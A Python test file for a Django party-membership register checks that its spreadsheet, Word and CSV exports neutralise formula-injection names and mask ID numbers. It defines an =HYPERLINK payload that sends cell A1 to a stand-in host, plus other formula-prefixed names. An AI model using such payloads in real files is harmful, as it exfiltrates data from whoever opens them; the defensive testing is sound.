"""Every file the system hands out, walked like the permission matrix walks URLs.

Members and orgs get names a spreadsheet would run as formulas (=, +, -, @, full-width, with a
control character in one), then each declared export is downloaded by a role without
`members.view_identity` (and, where the file can hold ID numbers, by one with it) and opened
back: no cell is a formula, formula-like text is text (XLSX: a text cell with Excel's quote
prefix; CSV: behind an apostrophe), no control character is left, and ID numbers are masked
by the same rule as the screens (full only with members.view_identity).

`test_every_file_download_is_declared` fails when a view that hands out a file (it calls a
response of dangbo.core.exports, directly or through an app's export function) is declared
neither in EXPORTS nor in EXEMPT; `test_apps_write_files_only_through_core_exports` fails when
app code builds a workbook, document, CSV writer or attachment by itself.
"""

import ast
import csv
import inspect
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook

import dangbo
from dangbo.admissions import papers as admission_papers
from dangbo.admissions.models import AdmissionFile
from dangbo.committees import services as committee_services
from dangbo.core.exports import clean_text, is_formula_like
from dangbo.core.models import Role
from dangbo.core.text import mask_id_number
from dangbo.imports.models import ImportJob
from dangbo.meetings import services as meeting_services
from dangbo.members.models import Member
from dangbo.organizations.models import Organization, OrgPeriod
from dangbo.programmes.models import ProgrammeItem
from dangbo.recognition.models import BadgeAward
from dangbo.reports import services as report_services
from dangbo.surveys import services as survey_services
from dangbo.surveys.models import Question, QuestionKind
from tests import factories
from tests.admissions import matrix as admissions_matrix
from tests.committees import matrix as committees_matrix
from tests.imports.helpers import MEMBER_HEADERS, member_row
from tests.inspections import matrix as inspections_matrix
from tests.meetings.conftest import held_meeting
from tests.organizations import matrix as organizations_matrix
from tests.permission_matrix import build_data
from tests.programmes import matrix as programmes_matrix
from tests.reviews import matrix as reviews_matrix
from tests.surveys import builders as survey_builders
from tests.transfers import matrix as transfers_matrix

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào đây")'
MEMBER_NAMES = {  # (tree key, index) → the name it gets
    ("members_a", 0): HYPERLINK + "\x01",  # a control character too: stripped, never a failure
    ("members_a", 1): "+Trần Thị Hằng",
    ("members_a", 2): "-Lê Đức Anh",
    ("members_b", 0): "@Phạm Quang Dũng",
    ("village_members", 0): "＝Đặng Thị Thủy",
}
ORG_NAMES = {
    "province": "=Đảng bộ tỉnh Sông Hồng $x^$",  # "$…$" is no mathtext in the charts
    "bloc": "+Đảng ủy Khối các cơ quan tỉnh",
    "commune": "-Đảng ủy xã Tân Lập",
    "committee": "＋Đảng bộ Sở Tư pháp",
    "cell_a": "@Chi bộ Văn phòng",
}
# What the files may show of them (control characters dropped).
PAYLOADS = [clean_text(n) for n in [*MEMBER_NAMES.values(), *ORG_NAMES.values()]]
KEPT_FILE_ID = "079123456789"  # in the uploaded file of the import job only
NO_IDENTITY = [
    "*.view",
    "*.change",
    "*.view_planning",
    "*.confirm",
    "inspections.view",
    "inspections.change",
]


def _rename(data: dict) -> None:
    """Legacy or imported names (written past the services, as an import of old data would)."""
    for (key, index), name in MEMBER_NAMES.items():
        Member.objects.filter(pk=data[key][index].pk).update(full_name=name)
    for key, name in ORG_NAMES.items():
        Organization.objects.filter(pk=data[key].pk).update(name=name)
        OrgPeriod.objects.filter(organization=data[key]).update(name=name)


@pytest.fixture
def data(tree, settings, tmp_path):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.DANGBO_EXPORTS_DIR = tmp_path / "exports"
    d = build_data(tree)
    _rename(d)
    Role.objects.create(code="khong_xem_so", name="Không xem số định danh", permissions=NO_IDENTITY)
    d["users"] = {
        "no_identity": factories.user("xuat_an_so", "khong_xem_so", on=tree["province"]),
        "identity": factories.user("xuat_du_so", "province_admin", on=tree["province"]),
    }
    return d


# ---------------------------------------------------------------- the declared exports


@dataclass
class Export:
    """One file download: how to ask for it (url(d, user) → path; payload for a POST), what
    the file is, and whether it holds ID numbers (then the role with view_identity downloads
    it too and must see them in full)."""

    id: str
    name: str
    fmt: str
    url: Callable[[dict, object], str]
    payload: Callable[[dict], dict] | None = None
    holds_ids: bool = False
    identity_only: bool = False  # refused (404) to users without view_identity
    prepare: Callable[[dict], None] = field(default=lambda d: None)


def at(name, kwargs=None, query=None):
    """url(d, user) for a named URL; kwargs/query are callables of the data."""

    def url(d, user):
        path = reverse(name, kwargs=kwargs(d) if kwargs else None)
        if query:
            path += "?" + "&".join(f"{k}={v}" for k, v in query(d).items())
        return path

    return url


def _admission_file(d):
    files = admissions_matrix._files(d)
    AdmissionFile.objects.filter(pk=files["admission_inside"].pk).update(full_name=HYPERLINK)
    return files["admission_inside"]


def _decision(d):
    """The inside file, decided (a member now), named like a formula afterwards."""
    file = admissions_matrix.decided(d)
    AdmissionFile.objects.filter(pk=file.pk).update(full_name=HYPERLINK)
    return {"pk": file.pk}


def _kept_document(d):
    """The admission decision kept in the committee's register of outgoing documents."""
    if "_kept_document" not in d:
        file = AdmissionFile.objects.get(pk=_decision(d)["pk"])
        d["_kept_document"] = admission_papers.admission_decision(file, None)
    return {"pk": d["_kept_document"].pk}


def _recognised(d):
    """The inside file recognised as an official member, named like a formula."""
    file = admissions_matrix.recognised(d)
    AdmissionFile.objects.filter(pk=file.pk).update(full_name=HYPERLINK)
    return file


def _held_meeting(d):
    """A held meeting of cell_a with everyone on its roll that day (whatever was registered
    before: the render test downloads every export on one data set)."""
    if "_held_meeting" not in d:
        on = date(2026, 3, 12)
        roll = list(meeting_services.roll(d["cell_a"], on).order_by("name_search"))
        d["_held_meeting"] = held_meeting(d["cell_a"], roll, on=on)
    return d["_held_meeting"]


def _resolved_meeting(d):
    """The held meeting with a resolution and its task."""
    meeting = _held_meeting(d)
    if not meeting.resolutions.exists():
        meeting_services.adopt_resolution(
            meeting,
            content="=Tổ chức sinh hoạt chuyên đề quý II",
            tasks=[
                meeting_services.TaskInput(
                    "Chuẩn bị tài liệu", d["members_a"][0].pk, date(2026, 4, 1)
                )
            ],
        )
    return meeting


def _step(d):
    file = _admission_file(d)
    return {"pk": file.pk, "step": file.steps.get().pk}


def _committee(key):
    return lambda d: {"pk": committees_matrix._side(d, "inside")[key].pk}


def _cadres(d):
    """The committee manages government posts too: members_a[0] holds one (matrix data)."""
    side = committees_matrix._side(d, "inside")
    committee_services.add_scope(
        organization=side["org"], valid_from=date(2015, 1, 1), agency_category="government"
    )
    return {"pk": side["org"].pk}


def _badge(d):
    if "_badge" not in d:
        d["_badge"] = BadgeAward.objects.create(
            member=d["members_a"][0],
            milestone=30,
            award_date=date(2025, 9, 2),
            status="awarded",
            reason="Đủ 30 năm tuổi đảng",
            decision_number="125-QĐ/TU",
            decided_on=date(2025, 8, 20),
        )


def _programme(d):
    item = programmes_matrix._item(d, "inside")
    ProgrammeItem.objects.filter(pk=item.pk).update(title=HYPERLINK + " $x^$")
    return {"pk": programmes_matrix._programme(d, "inside").pk}


def _survey(d):
    if "_survey" not in d:
        campaign, version, _cu, _dv = survey_builders.running(d["committee"])
        Question.objects.filter(version=version, kind=QuestionKind.SINGLE).update(
            options=[HYPERLINK, "-Không $x^$"]
        )
        survey_services.record_finding(campaign, kind="recommendation", text="@Kiến nghị")
        d["_survey"] = campaign
    return {"pk": d["_survey"].pk}


def _kept_upload(d):
    """An import job whose upload is a CSV with a formula name and a full ID number."""
    if "_kept" not in d:
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(MEMBER_HEADERS)
        writer.writerow(member_row(name=HYPERLINK, id_number=KEPT_FILE_ID, org="x"))
        job = ImportJob(
            kind="members",
            organization=d["cell_a"],
            file_name="dang_vien.csv",
            headers=MEMBER_HEADERS,
            mapping={},
            state=ImportJob.State.MAPPING,
            created_by=d["users"]["identity"],
        )
        job.file.save("dang_vien.csv", ContentFile(buffer.getvalue().encode()), save=False)
        job.save()
        d["_kept"] = job
    return {"pk": d["_kept"].pk}


def _background_export(d, user):
    job = report_services.start_member_export(user, d["province"], timezone.localdate())
    return reverse("reports:export_download", args=[job.pk])


def _years():
    today = timezone.localdate()
    return {"year_from": today.year - 4, "year_to": today.year, "export": "xlsx"}


EXPORTS = [
    Export(
        "admissions-list",
        "admissions:index",
        "xlsx",
        at("admissions:index", query=lambda d: (_admission_file(d), {"export": "xlsx"})[1]),
    ),
    Export(
        "admissions-docx",
        "admissions:docx",
        "docx",
        at("admissions:docx", lambda d: {"pk": _admission_file(d).pk}),
    ),
    Export("admissions-step", "admissions:step_docx", "docx", at("admissions:step_docx", _step)),
    Export(
        "admissions-targets",
        "admissions:targets",
        "xlsx",
        at("admissions:targets", query=lambda d: {"export": "xlsx", "org": d["committee"].pk}),
    ),
    Export(
        "admissions-decision",
        "admissions:decision",
        "docx",
        at("admissions:decision", _decision),
        payload=lambda d: {},
    ),
    Export(
        "admissions-recognition",
        "admissions:decision",
        "docx",
        at("admissions:decision", lambda d: {"pk": _recognised(d).pk}),
        payload=lambda d: {"paper": "recognition"},
    ),
    Export(
        "discipline-decision",
        "inspections:case_decision",
        "docx",
        at("inspections:case_decision", inspections_matrix.obj("case")),
        payload=lambda d: {},
    ),
    Export(
        "founding-decision",
        "organizations:event_decision",
        "docx",
        at("organizations:event_decision", organizations_matrix.founded("cell_a")),
        payload=lambda d: {},
    ),
    Export(
        "meeting-minutes",
        "meetings:paper",
        "docx",
        at("meetings:paper", lambda d: {"pk": _held_meeting(d).pk}),
        payload=lambda d: {"paper": "minutes"},
    ),
    Export(
        "meeting-resolution",
        "meetings:paper",
        "docx",
        at("meetings:paper", lambda d: {"pk": _resolved_meeting(d).pk}),
        payload=lambda d: {"paper": "resolution"},
    ),
    Export(
        "record-form",
        "members:record_form",
        "docx",
        at("members:record_form", lambda d: {"pk": d["members_a"][0].pk}),
        holds_ids=True,
    ),
    Export(
        "kept-document",
        "organizations:document_file",
        "docx",
        at("organizations:document_file", _kept_document),
    ),
    Export(
        "committee", "committees:org_export", "xlsx", at("committees:org_export", _committee("org"))
    ),
    Export(
        "cadres",
        "committees:scope_export",
        "xlsx",
        at("committees:scope_export", _cadres),
    ),
    Export(
        "holders",
        "committees:holders_export",
        "xlsx",
        at("committees:holders_export"),
        prepare=lambda d: committees_matrix._side(d, "inside"),
    ),
    Export(
        "planning-xlsx",
        "committees:planning_export",
        "xlsx",
        at("committees:planning_export", _committee("term")),
    ),
    Export(
        "planning-docx",
        "committees:planning_docx",
        "docx",
        at("committees:planning_docx", _committee("term")),
    ),
    Export("dues", "dues:totals_xlsx", "xlsx", at("dues:totals_xlsx")),
    Export(
        "imports-template",
        "imports:template",
        "xlsx",
        at("imports:template", lambda d: {"kind": "members"}),
    ),
    *(
        Export(
            f"imports-export-{kind}",
            "imports:export",
            "xlsx",
            at("imports:export", lambda d, kind=kind: {"kind": kind}),
            holds_ids=kind in ("members", "admissions", "history"),
            prepare=_admission_file if kind == "admissions" else (lambda d: None),
        )
        for kind in (
            "members",
            "admissions",
            "reviews",
            "organizations",
            "meetings",
            "org_reviews",
            "history",
        )
    ),
    Export(
        "imports-kept-file",
        "imports:file",
        "xlsx",
        at("imports:file", _kept_upload),
        holds_ids=True,
        identity_only=True,
    ),
    Export(
        "inspections-statistics",
        "inspections:statistics",
        "xlsx",
        at("inspections:statistics", query=lambda d: _years()),
    ),
    Export(
        "portal-accounts",
        "portal:accounts_bulk",
        "xlsx",
        at("portal:accounts_bulk"),
        payload=lambda d: {"organization": d["committee"].pk},
    ),
    Export(
        "document-counts",
        "programmes:document_counts_xlsx",
        "xlsx",
        at("programmes:document_counts_xlsx"),
    ),
    Export(
        "programme-docx",
        "programmes:programme_docx",
        "docx",
        at("programmes:programme_docx", _programme),
    ),
    Export(
        "ceremony",
        "recognition:ceremony",
        "xlsx",
        at("recognition:ceremony", query=lambda d: {"org": d["committee"].pk, "day": "02/09/2025"}),
        prepare=_badge,
    ),
    Export(
        "ceremony-docx",
        "recognition:ceremony",
        "docx",
        at(
            "recognition:ceremony",
            query=lambda d: {"org": d["committee"].pk, "day": "02/09/2025", "export": "docx"},
        ),
        prepare=_badge,
    ),
    *(
        Export(
            f"member-report-{fmt}",
            "reports:export",
            fmt,
            at("reports:export", lambda d, f=fmt: {"fmt": f}),
        )
        for fmt in ("xlsx", "docx", "csv")
    ),
    *(
        Export(
            f"module-report-{fmt}",
            "reports:module_export",
            fmt,
            at("reports:module_export", lambda d, f=fmt: {"key": "meetings", "fmt": f}),
        )
        for fmt in ("xlsx", "docx", "csv")
    ),
    Export(
        "module-rows-csv",
        "reports:module_rows",
        "csv",
        at(
            "reports:module_rows",
            lambda d: {"key": "badges"},
            lambda d: {"measure": "awarded", "year": 2025, "format": "csv"},
        ),
        prepare=_badge,
    ),
    Export(
        "background-export", "reports:export_download", "xlsx", _background_export, holds_ids=True
    ),
    Export(
        "reviews-xlsx", "reviews:export", "xlsx", at("reviews:export", reviews_matrix.INSIDE_ROOT)
    ),
    Export(
        "reviews-docx",
        "reviews:export_docx",
        "docx",
        at("reviews:export_docx", reviews_matrix.INSIDE_ROOT),
    ),
    Export("survey-xlsx", "surveys:export_xlsx", "xlsx", at("surveys:export_xlsx", _survey)),
    Export("survey-docx", "surveys:export_docx", "docx", at("surveys:export_docx", _survey)),
    Export(
        "transfers-letter",
        "transfers:letter",
        "docx",
        at(
            "transfers:letter",
            lambda d: {"pk": transfers_matrix._transfers(d)["transfer_inside"].pk},
        ),
        payload=lambda d: {},
    ),
    Export(
        "transfers",
        "transfers:index",
        "xlsx",
        at(
            "transfers:index",
            query=lambda d: (transfers_matrix._transfers(d), {"export": "xlsx"})[1],
        ),
    ),
]

# Views that hand out files but are not exports of the register's data.
EXEMPT = {
    "programmes:document_file": "an uploaded attachment, served as uploaded (uploads: #21)",
    "portal:document": "a published meeting document, served as uploaded (uploads: #21)",
    "meetings:document_file": "a meeting document, served as uploaded (uploads: #21)",
}


# ---------------------------------------------------------------- reading a file back


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(response, fmt: str) -> list[tuple[object, str, bool]]:
    """(value, data type, quote prefix) of every cell or text run of the file."""
    body = _body(response)
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(body))
        return [
            (c.value, c.data_type, bool(c.quotePrefix))
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for c in row
            if c.value is not None
        ]
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        return [(v, "s", False) for row in csv.reader(io.StringIO(text)) for v in row if v]
    document = Document(io.BytesIO(body))
    texts = [p.text for p in document.paragraphs]
    texts += [c.text for t in document.tables for row in t.rows for c in row.cells]
    return [(t, "s", False) for t in texts if t]


def _all_id_numbers() -> set[str]:
    numbers = set(Member.objects.exclude(id_number=None).values_list("id_number", flat=True))
    numbers |= set(AdmissionFile.objects.exclude(id_number="").values_list("id_number", flat=True))
    return numbers | {KEPT_FILE_ID}


def _download(client, export: Export, d: dict, user):
    client.force_login(user)
    path = export.url(d, user)
    if export.payload:
        return client.post(path, export.payload(d))
    return client.get(path)


@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e.id)
def test_export_is_formula_safe_and_masks_id_numbers(client, data, export):
    export.prepare(data)
    roles = ["no_identity", "identity"] if export.holds_ids else ["no_identity"]
    for role in roles:
        user = data["users"][role]
        response = _download(client, export, data, user)
        if export.identity_only and role == "no_identity":
            assert response.status_code == 404
            continue
        assert response.status_code == 200, (role, response.status_code)
        assert response["Content-Disposition"].startswith("attachment")
        cells = _cells(response, export.fmt)
        texts = [str(value) for value, _type, _prefix in cells]
        assert any(payload in text for payload in PAYLOADS for text in texts), texts[:40]
        for value, data_type, quoted in cells:
            assert data_type != "f", value
            if isinstance(value, str):
                assert clean_text(value) == value  # no control character left
                if export.fmt == "xlsx" and is_formula_like(value):
                    assert data_type == "s" and quoted, value
                if export.fmt == "csv":
                    assert not is_formula_like(value), value
        numbers = _all_id_numbers()
        shown = {n for n in numbers if any(n in text for text in texts)}
        if role == "no_identity":
            assert not shown, shown
            if export.holds_ids:
                assert any(mask_id_number(n) in texts for n in numbers)
        else:
            assert shown


# ---------------------------------------------------------------- nothing left out

SRC = Path(dangbo.__file__).parent
RESPONSES = {
    "file_response",
    "xlsx_response",
    "docx_response",
    "csv_response",
    "stored_file_response",
    "FileResponse",  # only the uploads served as uploaded (EXEMPT)
}


def _called(node) -> set[str]:
    names = set()
    for call in ast.walk(node):
        if isinstance(call, ast.Call):
            func = call.func
            if isinstance(func, ast.Name):
                names.add(func.id)
            elif isinstance(func, ast.Attribute):
                names.add(func.attr)
    return names


def _file_producers() -> set[str]:
    """Names of the module-level functions that hand out a file: they call a response of
    core.exports, or (repeatedly) one of these functions."""
    calls: dict[str, set[str]] = {}
    for path in SRC.rglob("*.py"):
        if "migrations" in path.parts:
            continue
        for node in ast.parse(path.read_text()).body:
            if isinstance(node, ast.FunctionDef):
                calls.setdefault(node.name, set()).update(_called(node))
    producers = set(RESPONSES)
    while True:
        more = {name for name, called in calls.items() if called & producers} - producers
        if not more:
            return producers
        producers |= more


def _views(resolver=None, namespace=""):
    """(URL name, view class or function) of every pattern."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _views(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            callback = pattern.callback
            view = getattr(callback, "view_class", None) or getattr(callback, "cls", None)
            yield f"{namespace}{pattern.name}", view or callback


def _hands_out_files(view, producers) -> bool:
    owners = inspect.getmro(view) if inspect.isclass(view) else (view,)
    for owner in owners:
        if not getattr(owner, "__module__", "").startswith("dangbo."):
            continue
        if _called(ast.parse(inspect.getsource(owner).strip())) & producers:
            return True
    return False


def test_every_file_download_is_declared():
    producers = _file_producers()
    handing_out = {name for name, view in _views() if _hands_out_files(view, producers)}
    declared = {export.name for export in EXPORTS}
    assert handing_out - declared - set(EXEMPT) == set(), "declare these in EXPORTS"
    assert declared - handing_out == set(), "declared, but no longer handing out a file"


# Reading workbooks (imports) and the attachments served as uploaded stay allowed.
_FORBIDDEN_NAMES = {
    ("openpyxl", "Workbook"): "dangbo.core.exports.new_workbook()",
    ("openpyxl.cell", "WriteOnlyCell"): "dangbo.core.exports.cell()",
    ("openpyxl.cell", "Cell"): "dangbo.core.exports.cell()",
    ("openpyxl.cell.cell", "Cell"): "dangbo.core.exports.cell()",
    ("docx", "Document"): "dangbo.core.exports.new_document()",
    ("csv", "writer"): "dangbo.core.exports.csv_bytes()",
    ("csv", "DictWriter"): "dangbo.core.exports.csv_bytes()",
    ("django.http", "FileResponse"): "dangbo.core.exports.stored_file_response()",
}
_UPLOADS_SERVED = {"core/uploads.py"}  # uploads served as uploaded: see EXEMPT


def test_apps_write_files_only_through_core_exports():
    problems = []
    for path in SRC.rglob("*.py"):
        relative = path.relative_to(SRC).as_posix()
        if relative.startswith("core/exports/") or "migrations" in path.parts:
            continue
        source = path.read_text()
        if "Content-Disposition" in source:
            problems.append(f"{relative}: sets Content-Disposition (use core.exports)")
        for node in ast.walk(ast.parse(source)):
            names = []
            if isinstance(node, ast.ImportFrom) and node.module:
                names = [(node.module, alias.name) for alias in node.names]
            elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                names = [(node.value.id, node.attr)]
            for name in names:
                if name == ("django.http", "FileResponse") and relative in _UPLOADS_SERVED:
                    continue
                if name in _FORBIDDEN_NAMES:
                    problems.append(f"{relative}: {'.'.join(name)} → {_FORBIDDEN_NAMES[name]}")
    assert problems == []
